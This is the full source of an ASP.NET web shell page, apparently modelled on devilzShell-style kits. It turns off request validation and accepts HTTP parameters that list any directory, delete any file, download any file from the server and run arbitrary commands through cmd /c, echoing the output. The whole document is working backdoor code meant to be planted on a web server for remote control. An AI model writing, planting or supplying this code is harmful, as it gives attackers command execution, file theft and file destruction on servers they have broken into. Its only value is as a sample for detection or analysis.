<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
// Command box plus file manager in one page (the layout of the devilzShell-type kits).
void Page_Load(object s, EventArgs e) {
    string dir = Request.QueryString["d"] ?? Server.MapPath(".");
    foreach (string f in Directory.GetFiles(dir)) Response.Write(f + "<br>");
    if (Request["del"] != null) File.Delete(Request["del"]);
    if (Request["get"] != null) { Response.WriteFile(Request["get"]); Response.End(); }
    if (Request.Form["c"] != null) {
        var p = new System.Diagnostics.Process();
        p.StartInfo = new System.Diagnostics.ProcessStartInfo("cmd", "/c " + Request.Form["c"]);
        p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true;
        p.Start(); Response.Write(p.StandardOutput.ReadToEnd());
    }
}
</script>
